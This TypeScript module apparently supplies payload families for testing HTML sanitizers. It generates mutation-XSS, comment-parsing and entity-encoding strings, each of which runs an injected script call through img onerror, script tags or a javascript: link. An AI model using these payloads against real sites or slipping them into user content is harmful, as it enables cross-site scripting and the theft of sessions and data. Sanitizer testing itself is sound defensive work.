/** Messages that parse differently in two parsers, or the second time. */
import type { Family } from './family.ts'

const rawTextElements = ['style', 'title', 'textarea', 'noscript', 'xmp', 'noembed', 'noframes', 'iframe', 'template', 'select']

/** Texts that change their meaning when serialised and parsed again. */
export const mutations: Family = (call) => [
  ...rawTextElements.map((name) => `<${name}><p title="</${name}><img src=x onerror=${call}>"></${name}>`),
  ...rawTextElements.map((name) => `<svg><${name}><a title="</${name}></svg><img src=x onerror=${call}>">`),
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  `<svg></p><style><a title="</style><img src=x onerror=${call}>">`,
  `<svg><foreignObject><p><style><!--</style><a title="--><img src=x onerror=${call}>">`,
  `<svg><desc><img src=x onerror=${call}></desc></svg>`,
  `<svg><title><img src=x onerror=${call}></title></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
  `<math><mi><svg><mi><style><img title="</style><img src=x onerror=${call}>">`,
  `<svg><![CDATA[<img src=x onerror=${call}>]]></svg>`,
  `<svg><![CDATA[><image xlink:href="x" onerror=${call} />]]></svg>`,
  `<table><tr><td><svg><p></td><td><img src=x onerror=${call}>`,
  `<table><img src=x onerror=${call}><tr><td>x</table>`,
  `<p><svg><p><img src=x onerror=${call}>`,
  `<noscript><p id="</noscript><img src=x onerror=${call}>"></noscript>`,
  `<plaintext><img src=x onerror=${call}></plaintext><img src=x onerror=${call}>`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<select><option><style></option></select><img src=x onerror=${call}></style>`,
  `<a><b><a><p><table><a><img src=x onerror=${call}>`,
  `<ruby><rt><math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${call}>">`,
]

export const comments: Family = (call) => [
  `<!--><img src=x onerror=${call}>-->`,
  `<!---><img src=x onerror=${call}>-->`,
  `<!-- --!><img src=x onerror=${call}>-->`,
  `<!-- -- ><img src=x onerror=${call}> -->`,
  `<!--[if gte IE 4]><img src=x onerror=${call}><![endif]-->`,
  `<![if true]><img src=x onerror=${call}><![endif]>`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<!DOCTYPE html [<!ENTITY x "<img src=x onerror=${call}>">]>&x;`,
  `<!doctype><img src=x onerror=${call}>`,
  `<?php echo "><img src=x onerror=${call}>" ?>`,
  `<% ><img src=x onerror=${call}> %>`,
  `</ ><img src=x onerror=${call}>`,
  `</img src=x onerror=${call}>`,
  `<!img src=x onerror=${call}>`,
  `<img src=x onerror=${call}`,
  `<img src=x onerror=${call}//<p>`,
]

export const entities: Family = (call) => [
  `&lt;img src=x onerror=${call}&gt;`,
  `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `&#x3c;script&#x3e;${call}&#x3c;/script&#x3e;`,
  `&#x0000003Cimg src=x onerror=${call}>`,
  `&ltimg src=x onerror=${call}&gt`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\u00BCscript\u00BE${call}\u00BC/script\u00BE`,
  `＜img src=x onerror=${call}＞`,
  `%3Cimg%20src=x%20onerror=${call}%3E`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `<textarea>&lt;/textarea&gt;&lt;img src=x onerror=${call}&gt;</textarea>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${call}">x</a>`,
]
